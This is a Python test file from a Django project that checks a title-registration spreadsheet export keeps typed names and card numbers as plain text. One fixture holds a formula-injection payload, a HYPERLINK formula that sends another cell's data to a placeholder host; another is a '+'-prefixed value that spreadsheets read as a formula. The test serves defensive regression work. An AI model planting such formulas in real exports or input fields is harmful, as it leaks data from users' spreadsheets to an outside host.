"""The title registrations' export keeps typed names and card numbers as text (issue 16 item 1)."""

import io

import openpyxl
from django.urls import reverse

from thidua.org.models import RoleKind
from thidua.org.tests.factories import MemberFactory, make_user

NAME = '=HYPERLINK("http://example.invalid/?x="&C2,"Bấm")'
CARD = "+84-912@"


def test_titles_export_keeps_a_typed_name_and_card_as_text(federation, login):
    MemberFactory(full_name=NAME, unit=federation.school, card_number=CARD)
    client = login(make_user("lb", RoleKind.EMULATION_OFFICER, federation.long_bien))
    response = client.get(reverse("participation:titles_export") + "?nam=2026")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert cells[NAME] == "s" and cells[CARD] == "s"
    assert "f" not in cells.values()
